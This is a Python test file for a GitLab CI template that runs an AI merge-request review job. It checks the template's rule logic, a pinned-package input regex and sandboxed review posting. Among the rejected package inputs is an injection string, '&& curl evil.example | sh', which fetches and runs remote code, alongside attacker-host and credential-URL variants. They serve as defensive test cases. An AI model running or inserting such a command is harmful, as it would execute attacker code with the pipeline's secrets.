"""templates/review.yml in the pipelines GitLab really makes (#43): a same-project merge request, a fork's (run in
the fork, without the parent's variables, or with the fork's own), "run pipeline in the parent project", a merge
train, and a project without the two secrets. The template's rules are evaluated with the variables GitLab sets in
each, and where the job is added its script runs against the sandbox: reviewed and posted once on the right merge
request, or not added at all; never the wrong merge request, never a red pipeline for a missing secret."""

import re
import shlex
import subprocess
import sys
from pathlib import Path

import gitlab
import pytest
import re2
import yaml

from course_agent.publish import SUMMARY_MARKER
from course_sandbox import Sandbox

import unset_settings

ROOT = Path(__file__).resolve().parent.parent
TEMPLATE = ROOT / "templates" / "review.yml"
TOKEN = "pipeline-token-8c2f61"
PACKAGE = "git+https://gitlab.example.com/tools/agent-loop-course.git@v0.1.0"


def template() -> tuple[dict, dict]:
    spec, jobs = yaml.safe_load_all(TEMPLATE.read_text())
    return spec["spec"]["inputs"], jobs["course-agent-review"]


# ---------------------------------------------------------------- GitLab's rules:if, the part the template uses

TOKENS = re.compile(r"\s*(?:(?P<var>\$[A-Za-z_][A-Za-z0-9_]*)|(?P<str>\"[^\"]*\"|'[^']*')|(?P<op>==|!=|&&|\|\||[()]))")


def _tokens(expression: str) -> list[tuple[str, str]]:
    found, at = [], 0
    while at < len(expression.rstrip()):
        match = TOKENS.match(expression, at)
        assert match, f"the template's rule uses syntax this evaluator does not know: {expression[at:]!r}"
        kind = match.lastgroup
        found.append((kind, match.group(kind)))
        at = match.end()
    return found


def evaluate(expression: str, variables: dict[str, str]) -> bool:
    """GitLab's `rules:if` for variables, strings, ==, !=, && (before ||) and parentheses: a variable alone is true
    when it is set and not empty; an unset one equals nothing."""
    tokens = _tokens(expression)

    def value(token):
        kind, text = token
        return variables.get(text[1:]) or None if kind == "var" else text[1:-1]

    def primary(i):
        if tokens[i] == ("op", "("):
            result, i = either(i + 1)
            assert tokens[i] == ("op", ")")
            return result, i + 1
        left = value(tokens[i])
        if i + 1 < len(tokens) and tokens[i + 1][1] in ("==", "!="):
            right = value(tokens[i + 2])
            return (left == right) == (tokens[i + 1][1] == "=="), i + 3
        return bool(left), i + 1

    def chain(operator, part):
        def parse(i):
            result, i = part(i)
            while i < len(tokens) and tokens[i] == ("op", operator):
                right, i = part(i + 1)
                result = (result and right) if operator == "&&" else (result or right)
            return result, i
        return parse

    both = chain("&&", primary)
    either = chain("||", both)

    result, end = either(0)
    assert end == len(tokens)
    return result


def test_the_evaluator_reads_rules_as_gitlab_does():
    v = {"A": "x", "EMPTY": ""}
    assert evaluate('$A == "x"', v) and not evaluate('$B == "x"', v) and evaluate('$B != "x"', v)
    assert not evaluate("$EMPTY", v) and evaluate('$A && ($B || $A)', v) and not evaluate("$A && $B || $EMPTY", v)


def job_added(variables: dict[str, str]) -> bool:
    """Whether GitLab adds the job to a pipeline with these variables: the first rule that matches decides."""
    for rule in template()[1]["rules"]:
        if "if" not in rule or evaluate(rule["if"], variables):
            return rule.get("when", "on_success") != "never"
    return False


# ---------------------------------------------------------------- the pipelines

SECRETS = {"COURSE_AGENT_GITLAB_TOKEN": TOKEN, "ANTHROPIC_API_KEY": "set"}


def mr_pipeline(project: str = "7", mr_project: str = "7", iid: str = "483", event: str = "detached",
                **secrets: str) -> dict[str, str]:
    """The predefined variables of a merge-request pipeline running in `project` for !iid of `mr_project`."""
    return {"GITLAB_CI": "true", "CI": "true", "CI_PIPELINE_SOURCE": "merge_request_event",
            "CI_MERGE_REQUEST_EVENT_TYPE": event, "CI_PROJECT_ID": project, "CI_MERGE_REQUEST_PROJECT_ID": mr_project,
            "CI_MERGE_REQUEST_SOURCE_PROJECT_ID": project, "CI_MERGE_REQUEST_IID": iid, "CI_JOB_ID": "90210",
            **secrets}


@pytest.mark.parametrize("name, variables, added", [
    ("same project", mr_pipeline(**SECRETS), True),
    ("same project, merged results", mr_pipeline(event="merged_result", **SECRETS), True),
    # a GITLAB_TOKEN set for other tools (releases, Renovate) does not make the reviewer run with its rights
    ("GITLAB_TOKEN only", mr_pipeline(GITLAB_TOKEN=TOKEN, ANTHROPIC_API_KEY="set"), False),
    ("merge train", mr_pipeline(event="merge_train", **SECRETS), False),
    ("fork, in the fork", mr_pipeline(project="99"), False),
    ("no key", mr_pipeline(COURSE_AGENT_GITLAB_TOKEN=TOKEN), False),
    ("no token", mr_pipeline(ANTHROPIC_API_KEY="set"), False),
    # protected variables on a feature branch's MR: GitLab gives the pipeline neither, as if unset
    ("protected variables, unprotected branch", mr_pipeline(), False),
    ("branch pipeline", {"GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "push", "CI_PROJECT_ID": "7", **SECRETS}, False),
    ("schedule", {"GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "schedule", "CI_PROJECT_ID": "7", **SECRETS}, False),
])
def test_the_job_is_added_only_to_merge_request_pipelines_that_have_both_secrets(name, variables, added):
    assert job_added(variables) is added, name


def test_the_job_waits_for_nothing_and_takes_nothing_from_the_project_defaults():
    _, job = template()
    assert job["needs"] == [] and job["inherit"] == {"default": ["tags"]}  # the runners' tags, nothing else
    assert job["variables"]["GIT_STRATEGY"] == "none"  # no clone: nothing of the repository in the job
    assert job["retry"]["exit_codes"] == [7] and job["retry"]["max"] == 2
    assert job["artifacts"]["access"] == "developer" and job["artifacts"]["expose_as"]
    assert "$CI_MERGE_REQUEST_IID" in job["resource_group"]
    assert job["cache"]["paths"] == [".cache/pip"] and job["variables"]["PIP_CACHE_DIR"].endswith("/.cache/pip")
    # pip installs the input itself: a job variable holding it could be overridden by a project or group variable
    assert any('pip install --quiet "$[[ inputs.package ]]"' in line for line in job["before_script"])
    assert not any("$[[ inputs.package ]]" in str(value) for value in job["variables"].values())
    # a runner that keeps its workspace keeps old transcripts: they are removed, and each job's has its own name
    assert "rm -rf course-agent-runs" in job["before_script"] and "$CI_JOB_ID" in job["script"][0]


@pytest.mark.parametrize("package, pinned", [
    (PACKAGE, True),
    ("git+https://gitlab.example.com/tools/agent-loop-course.git@" + "3f" * 20, True),
    ("course-agent==0.1.0", False),  # not until this project publishes it: a free name is anyone's
    ("course-agent", False),  # the name is free on PyPI: whoever registers it would run with the job's secrets
    ("git+https://gitlab.example.com/tools/agent-loop-course.git@main", False),  # a branch moves
    ("git+https://gitlab.example.com/tools/agent-loop-course.git", False),
    ("git+http://gitlab.example.com/tools/agent-loop-course.git@v0.1.0", False),
    ("course-agent>=0.1", False),
    (PACKAGE + " && curl evil.example | sh", False),
    (PACKAGE + "\n", False),
    ("git+https://$EVIL_HOST/tools/agent-loop-course.git@v0.1.0", False),  # checked before variables expand
    ("git+https://user:pw@gitlab.example.com/tools/agent-loop-course.git@v0.1.0", False),
    # pip reads what follows '#' or '?' as a fragment or query: the tag after it would not be the one installed
    ("git+https://gitlab.example.com/x.git#.git@v0.1.0", False),
    ("git+https://gitlab.example.com/x.git?.git@v0.1.0", False),
])
def test_the_package_input_must_be_pinned(package, pinned):
    inputs, _ = template()
    assert "default" not in inputs["package"]  # no install from a guess: the including project says where from
    assert all(inputs[name]["type"] == "string" for name in inputs)
    # GitLab matches an input's regex with RE2, unanchored (a search): the pattern's ^...$ must hold the whole value
    assert bool(re2.search(inputs["package"]["regex"], package)) is pinned


def test_a_pinned_git_url_of_this_repository_resolves(tmp_path):
    """The form the docs give, `git+<this repository>.git@<tag>`, is one pip installs from (here over file://,
    offline: the scheme is the only difference)."""
    if not (ROOT / ".git").exists():
        pytest.skip("not a git checkout: nothing to tag")
    bare = tmp_path / "agent-loop-course.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(ROOT), str(bare)], check=True, timeout=120)
    subprocess.run(["git", "-C", str(bare), "tag", "v0.1.0"], check=True)
    done = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "--no-build-isolation", "-q",
                           "-d", str(tmp_path / "got"), f"git+file://{bare}@v0.1.0"],
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    assert [p.name for p in (tmp_path / "got").iterdir()] == ["course-agent-0.1.0.zip"]


# ---------------------------------------------------------------- the job's script, run

@pytest.fixture(scope="module")
def sandbox():
    sb = Sandbox()
    sb.gitlab_token = TOKEN
    with sb:
        yield sb


def run_script(sb, variables: dict[str, str], cwd: Path) -> subprocess.CompletedProcess:
    """The job's script line as the runner runs it: the template's variables, then the pipeline's, expanded."""
    inputs, job = template()
    env = unset_settings.environment()
    env.update({k: str(v).replace("$[[ inputs.package ]]", PACKAGE) for k, v in job["variables"].items()})
    env.update(variables, CI_SERVER_URL=sb.gitlab_url, ANTHROPIC_BASE_URL=sb.anthropic_base_url,
               ANTHROPIC_API_KEY=sb.api_key, COURSE_AGENT_LANGUAGE="en")
    [line] = job["script"]
    words = shlex.split(re.sub(r"\$([A-Za-z_][A-Za-z0-9_]*)", lambda m: env.get(m.group(1), ""), line))
    assert words[0] == "course-agent"
    return subprocess.run([sys.executable, "-m", "course_agent.cli", *words[1:]], env=env, cwd=cwd,
                          capture_output=True, text=True, timeout=180, stdin=subprocess.DEVNULL)


def summaries(sb, iid: int) -> int:
    mr = gitlab.Gitlab(sb.gitlab_url, private_token=TOKEN).projects.get(7).mergerequests.get(iid)
    return sum(SUMMARY_MARKER in note.body for note in mr.notes.list(get_all=True))


@pytest.mark.parametrize("name, variables", [
    ("same project", mr_pipeline(iid="483", **SECRETS)),
    ("fork with its own variables: the fork's CI_PROJECT_ID, the target's merge request", mr_pipeline(
        project="99", iid="484", **SECRETS)),
    ("run in the parent project", mr_pipeline(iid="486", **SECRETS)),
])
def test_where_the_job_runs_it_reviews_the_right_merge_request_once(sandbox, tmp_path, name, variables):
    assert job_added(variables) or variables["CI_PROJECT_ID"] == "99"  # a fork's own variables add it there
    iid = int(variables["CI_MERGE_REQUEST_IID"])
    for _ in range(2):  # a second pipeline for the same merge request updates the review
        done = run_script(sandbox, variables, tmp_path)
        assert done.returncode == 0, (name, done.stderr[-2000:])
    assert done.stdout.startswith(f"Posted the review on !{iid}."), name
    assert summaries(sandbox, iid) == 1
    assert TOKEN not in done.stdout + done.stderr
    assert (tmp_path / "course-agent-runs" / f"review-{iid}-{variables['CI_JOB_ID']}.jsonl").exists()  # artifacts: paths
